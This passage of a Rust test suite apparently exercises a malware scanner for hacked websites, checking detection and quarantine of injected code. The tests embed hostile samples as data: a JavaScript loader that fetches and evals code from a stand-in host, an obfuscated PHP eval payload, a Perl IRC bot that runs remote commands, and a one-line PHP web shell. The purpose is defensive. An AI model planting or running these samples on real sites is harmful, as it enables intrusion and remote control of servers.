}

/// Static pages are read for a defacement only: one changed after the attack, or one too large
/// to read whole, is not a finding as a PHP file is (regression: reading `.html` for defacements
/// must not report every page a customer edited).
#[test]
fn a_static_page_changed_after_the_attack_is_not_a_finding_but_a_defacement_is() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("public_html");
    std::fs::create_dir_all(&root).unwrap();
    let filler = "<p>Opening hours: Monday to Friday, nine to five.</p>\n".repeat(60);
    std::fs::write(root.join("about.html"), format!("<html><body>{filler}</body></html>")).unwrap();
    std::fs::write(root.join("hours.php"), format!("<?php echo 'hours'; ?>\n{filler}")).unwrap();
    std::fs::write(
        root.join("index.html"),
        format!("<html><head><title>Hacked by Night Owl Crew</title></head><body>{filler}</body></html>"),
    )
    .unwrap();
    let opts = secure_reopen::sweep::files::Options {
        attack_time: Some(std::time::SystemTime::now() - std::time::Duration::from_secs(3600)),
        max_read: 1024,
        ..Default::default()
    };
    let report = secure_reopen::sweep::files::sweep(tmp.path(), &[root], &opts);
    let whys = |name: &str| reasons_of(&report, name);
    assert_eq!(report.files_read, 3, "every page and script is read");
    assert_eq!(whys("about.html"), Vec::<&str>::new(), "an edited page is the customer's");
    assert_eq!(whys("index.html"), ["defacement"]);
    let php = whys("hours.php");
    assert!(php.contains(&"modified_after_attack") && php.contains(&"too_large"), "{php:?}");
}

/// A theme's script with a loader appended to its last line (it fetches code for visitors who
/// arrive from a search engine and runs it) is on the customer's review, worded for them, and
/// goes to quarantine in one click; the theme's other script stays.
#[test]
fn a_script_added_to_a_themes_javascript_is_found_and_quarantined() {
    let sim = Sim::start();
    let b = sim.browser();
    let js = sim.home().join("public_html/wp-content/themes/bakery/js");
    std::fs::create_dir_all(&js).unwrap();
    let own = "(function(){ var t = document.querySelector('.menu-toggle');\n\
               t && t.addEventListener('click', function(){ document.body.classList.toggle('open'); }); })();\n";
    std::fs::write(js.join("menu.js"), own).unwrap();
    let added = ";(function(){var d=document,w=window;if(d['referrer']&&!d['cookie']){var x=new XMLHttpRequest();\
                 x['onreadystatechange']=function(){if(x['readyState']==4)w['eval'](x['responseText']);};\
                 x['open']('GET','//cdn-img-static.example/c.php',true);x['send'](null);}})();";
    std::fs::write(js.join("slider.js"), format!("{own}{added}")).unwrap();
    let url = format!("{}?view=sweep", b.plugin_url());
    let t = b.get(&url).text();
    assert!(t.contains("wp-content/themes/bakery/js/slider.js"), "{t}");
    assert!(t.contains("Hidden or foreign JavaScript put into your pages"), "{t}");
    assert!(!t.contains("bakery/js/menu.js"), "the theme's own script is not a finding: {t}");
    let kept = remove_from_review(&sim, &b, "public_html/wp-content/themes/bakery/js/slider.js");
    assert!(js.join("menu.js").exists());
    assert_eq!(std::fs::read_to_string(kept).unwrap(), format!("{own}{added}"));
}

/// Copies fixtures into the site (`(fixture, path under the home)`, the fixture's folder given)
/// and returns the review page's text, as the customer reads it.
fn review_with(sim: &Sim, b: &Browser, files: &[(&str, &str)]) -> String {
    for (fixture, rel) in files {
        let to = sim.home().join(rel);
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        std::fs::copy(fixture, &to).unwrap();
    }
    b.get(&format!("{}?view=sweep", b.plugin_url())).text()
}

/// Removes the finding for `rel` (under the home) from the review page in one click: the file
/// is gone from the site and its quarantined copy is returned.
fn remove_from_review(sim: &Sim, b: &Browser, rel: &str) -> std::path::PathBuf {
    let url = format!("{}?view=sweep", b.plugin_url());
    let id = finding_id(&b.get(&url).body, rel);
    assert_eq!(b.submit(&[("action", "remove_finding"), ("id", &id)]).status, 303);
    assert!(!sim.home().join(rel).exists(), "{rel} is still in the site");
    let quarantine = sim.home().join(".secure_reopen/quarantine/files");
    let batch = std::fs::read_dir(&quarantine).unwrap().next().unwrap().unwrap().path();
    let kept = batch.join(rel);
    assert!(kept.exists(), "{rel} is not in the quarantine");
    kept
}

/// A Perl back-connect left in `cgi-bin` is on the customer's review with words they can read,
/// and is quarantined in one click; the shop's own contact form in the same folder is not a
/// finding.
#[test]
fn a_perl_back_connect_in_cgi_bin_is_found_and_the_shops_own_form_is_not() {
    let sim = Sim::start();
    let b = sim.browser();
    let (bad, own) = (format!("{CORPUS}/back_connect.pl"), format!("{CLEAN}/contact_form.pl"));
    let t = review_with(&sim, &b, &[(&bad, "public_html/cgi-bin/stats.pl"), (&own, "public_html/cgi-bin/contact.pl")]);
    assert!(t.contains("public_html/cgi-bin/stats.pl"), "{t}");
    assert!(t.contains("Opens a command line on the server for someone on another machine"), "{t}");
    assert!(!t.contains("cgi-bin/contact.pl"), "the shop's own form is not a finding: {t}");
    remove_from_review(&sim, &b, "public_html/cgi-bin/stats.pl");
    assert!(sim.home().join("public_html/cgi-bin/contact.pl").exists());
}

/// A CGI shell under a made-up ending (`css.cin`, run by `AddHandler cgi-script .cin` beside
/// it) or under any ending in `cgi-bin`, and server settings under a name with no ending, are
/// read for what they are; a licence text, a shell script's usage note with no ending and a
/// harmless CGI are not findings (regression: files whose names said nothing were never
/// opened).
#[test]
fn a_cgi_shell_under_a_made_up_ending_is_found_and_a_licence_is_not() {
    let tmp = tempfile::tempdir().unwrap();
    let site = tmp.path().join("public_html");
    std::fs::create_dir_all(site.join("casts")).unwrap();
    std::fs::copy(format!("{CORPUS}/query_shell_made_up_ending.cin"), site.join("casts/css.cin")).unwrap();
    std::fs::write(site.join("casts/htcs"), "Options +ExecCGI\nAddHandler cgi-script .cin\n").unwrap();
    // Regression (review): in `cgi-bin` every file runs as CGI, whatever its ending.
    std::fs::create_dir_all(site.join("cgi-bin")).unwrap();
    std::fs::copy(format!("{CORPUS}/query_shell_made_up_ending.cin"), site.join("cgi-bin/stats.txt")).unwrap();
    std::fs::write(
        site.join("cgi-bin/readme.txt"),
        "#!/usr/bin/perl\nprint \"Content-type: text/plain\\n\\nhello\";\n",
    )
    .unwrap();
    std::fs::write(site.join("LICENSE"), "Permission is hereby granted, free of charge, to any person\n").unwrap();
    std::fs::write(site.join("run"), "#!/bin/sh\n# Usage: ./run --migrate\nphp artisan migrate --force\n").unwrap();
    let v = scan_json_finding_something(tmp.path(), &site);
    let reasons = |name: &str| json_reasons(&v, name);
    assert_eq!(reasons("css.cin"), ["shell_from_input"], "{v}");
    assert_eq!(reasons("htcs"), ["handler_on_data"], "{v}");
    assert_eq!(reasons("cgi-bin/stats.txt"), ["shell_from_input"], "{v}");
    assert!(reasons("cgi-bin/readme.txt").is_empty(), "{v}");
    assert!(reasons("LICENSE").is_empty() && reasons("run").is_empty(), "{v}");
}

/// PHP kept under a made-up ending for an injected `@include` (fresh98's `.b12e79b3.oti`) is
/// read as the PHP it is and found for what it does; a tool's harmless PHP under such a name
/// is not a finding (regression: such files were opened for a `#!` line only).
#[test]
fn a_php_payload_under_a_made_up_ending_is_found_and_a_harmless_one_is_not() {
    let tmp = tempfile::tempdir().unwrap();
    let site = tmp.path().join("public_html");
    std::fs::create_dir_all(site.join(".idea")).unwrap();
    let payload = "<?php\n$k = pack('H*', '410d0616430b1d550b195015'); $f = '3lqc1gy0hv4p'; $f = $f ^ $k;\n\
                   $c = ''; $c .= $f('%65%63%68%6f%20%31%3b');\neval/*x*/($c);\n";
    std::fs::write(site.join(".idea/.b12e79b3.oti"), payload).unwrap();
    std::fs::write(site.join("settings.local"), "<?php return ['cache' => 'files'];\n").unwrap();
    let v = scan_json_finding_something(tmp.path(), &site);
    let reasons = |name: &str| json_reasons(&v, name);
    assert_eq!(reasons(".b12e79b3.oti").first().map(String::as_str), Some("eval_of_decoded"), "{v}");
    assert!(reasons("settings.local").is_empty(), "{v}");
}

/// An IRC bot kept as text or under a picture's name (started with `perl byr.jpg`) is read as
/// the program it is; a plugin's readme is not a finding (regression: fresh95's bots were
/// never opened).
#[test]
fn a_perl_bot_kept_as_text_or_a_picture_is_found_and_a_readme_is_not() {
    let tmp = tempfile::tempdir().unwrap();
    let site = tmp.path().join("public_html");
    std::fs::create_dir_all(site.join("images")).unwrap();
    let bot = "#!/usr/bin/perl\nuse IO::Socket;\nmy $s = IO::Socket::INET->new(PeerAddr => 'irc.example.net', PeerPort => 6667);\nprint $s \"NICK bot\\r\\nUSER b b b b\\r\\nJOIN #c\\r\\n\";\nwhile (<$s>) { if (/PRIVMSG #c :!sh (.*)/) { print $s \"PRIVMSG #c :\" . `$1`; } }\n";
    std::fs::write(site.join("images/byr.jpg"), bot).unwrap();
    std::fs::write(site.join("legend.txt"), bot).unwrap();
    std::fs::write(site.join("readme.txt"), "=== Contact ===\nContributors: shop\nStable tag: 1.2\n").unwrap();
    let v = scan_json_finding_something(tmp.path(), &site);
    let found = |name: &str| {
        v["findings"].as_array().unwrap().iter().any(|f| {
            f["path"].as_str().unwrap().ends_with(name)
                && f["reasons"].as_array().unwrap().iter().any(|r| r["why"] == "network_bot")
        })
    };
    assert!(found("images/byr.jpg") && found("legend.txt"), "{v}");
    assert!(!v.to_string().contains("readme.txt"), "{v}");
}

/// A fake plugin that keeps an intruder's administrator out of the list of users is on the
/// customer's review in their words and is quarantined in one click; an ordinary plugin that
/// uses the same hooks for its settings link stays.
#[test]
fn a_fake_plugin_hiding_an_administrator_is_found_and_the_shops_own_plugin_is_not() {
    let sim = Sim::start();
    let b = sim.browser();
    let (bad, own) = (format!("{CORPUS}/wp_plugin_hides_admin.php"), format!("{CLEAN}/plugin_with_settings_link.php"));
    let fake = "public_html/wp-content/plugins/core-health-check/core-health-check.php";
    let t = review_with(
        &sim,
        &b,
        &[(&bad, fake), (&own, "public_html/wp-content/plugins/opening-hours/opening-hours.php")],
    );
    assert!(t.contains("plugins/core-health-check/core-health-check.php"), "{t}");
    assert!(t.contains("Keeps a site administrator hidden from your list of users"), "{t}");
    assert!(!t.contains("opening-hours.php"), "the shop's own plugin is not a finding: {t}");
    remove_from_review(&sim, &b, fake);
    assert!(sim.home().join("public_html/wp-content/plugins/opening-hours/opening-hours.php").exists());
}

/// A theme footer printing another site's links and a plugin file with a loader glued in
/// front of its own code are on the customer's review, each in words that say what to do; the
/// theme's other templates stay off it.
#[test]
fn a_footer_printing_spam_links_and_a_loader_glued_in_front_of_a_plugin_file_are_found() {
    let sim = Sim::start();
    let b = sim.browser();
    let theme = sim.home().join("public_html/wp-content/themes/shopfront");
    std::fs::create_dir_all(&theme).unwrap();
    let header = "<!doctype html>\n<html <?php language_attributes(); ?>>\n<head><?php wp_head(); ?></head>\n<body>\n";
    std::fs::write(theme.join("header.php"), header).unwrap();
    let (footer, glued) =
        (format!("{CORPUS}/footer_prints_remote_links.php"), format!("{CORPUS}/loader_glued_in_front.php"));
    let t = review_with(
        &sim,
        &b,
        &[
            (&footer, "public_html/wp-content/themes/shopfront/footer.php"),
            (&glued, "public_html/wp-content/plugins/gallery/functions.php"),
        ],
    );
    assert!(t.contains("themes/shopfront/footer.php"), "{t}");
    assert!(t.contains("Prints into your pages whatever another site sends it"), "{t}");
    assert!(t.contains("plugins/gallery/functions.php"), "{t}");
    assert!(t.contains("Put the file back from your backup"), "{t}");
    assert!(!t.contains("header.php"), "the theme's header is not a finding: {t}");
    remove_from_review(&sim, &b, "public_html/wp-content/themes/shopfront/footer.php");
}

/// A bot's helper that installs a crontab re-running its launcher every minute is on the
/// customer's review, pointing them at their cron jobs, and is quarantined in one click; a
/// backup plugin that only shows the cron line to add is not a finding.
#[test]
fn a_php_helper_installing_a_crontab_is_found_and_a_plugin_showing_a_cron_line_is_not() {
    let sim = Sim::start();
    let b = sim.browser();
    let (bad, own) = (format!("{CORPUS}/cron_reinstaller.php"), format!("{CLEAN}/backup_schedule_settings.php"));
    let t = review_with(
        &sim,
        &b,
        &[
            (&bad, "public_html/wp-content/uploads/.cache/helper.php"),
            (&own, "public_html/wp-content/plugins/nightly-backup/settings.php"),
        ],
    );
    assert!(t.contains("uploads/.cache/helper.php"), "{t}");
    assert!(t.contains("Adds a scheduled task (a cron job) to the server"), "{t}");
    assert!(!t.contains("nightly-backup/settings.php"), "the plugin's settings page is not a finding: {t}");
    remove_from_review(&sim, &b, "public_html/wp-content/uploads/.cache/helper.php");
}

#[test]
fn a_fault_in_one_files_check_is_that_files_finding_and_the_walk_goes_on() {
    // Regression: a panic in one file's checks left its folder "busy" for ever, so the other
    // worker waited and the scan never ended (found with a pattern that failed to compile).
    fn failing(rel: &str, name: &str, text: &[u8], own: &[String]) -> Vec<secure_reopen::sweep::detect::Hit> {
        if name == "breaks-the-check.php" {
            panic!("a fault of ours");
        }
        secure_reopen::sweep::detect::judge(rel, name, text, own)
    }
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("public_html");
    for dir in ["a", "b", "c"] {
        std::fs::create_dir_all(root.join(dir)).unwrap();
        std::fs::write(root.join(dir).join("ok.php"), "<?php echo 'fine';").unwrap();
    }
    std::fs::write(root.join("a/breaks-the-check.php"), "<?php echo 1;").unwrap();
    std::fs::write(root.join("c/shell.php"), "<?php system($_GET['c']);").unwrap();
    let opts = secure_reopen::sweep::files::Options { threads: 2, judge: failing, ..Default::default() };
    let (tx, rx) = std::sync::mpsc::channel();
    let (home, roots) = (tmp.path().to_path_buf(), vec![root.clone()]);
    std::thread::spawn(move || tx.send(secure_reopen::sweep::files::sweep(&home, &roots, &opts)).unwrap());
    let report = rx.recv_timeout(std::time::Duration::from_secs(60)).expect("the scan ends");
    let whys = |name: &str| reasons_of(&report, name);
    assert_eq!(whys("breaks-the-check.php"), ["check_failed"]);
    assert!(whys("shell.php").contains(&"shell_from_input"), "{:?}", report.findings);
    assert_eq!(report.files_read, 5);
}

/// The reasons (stable names) of the findings whose path ends with `name`.
fn reasons_of(report: &secure_reopen::sweep::files::Report, name: &str) -> Vec<&'static str> {
    report.findings.iter().filter(|f| f.path.ends_with(name)).flat_map(|f| f.hits.iter().map(|h| h.why.id())).collect()
}
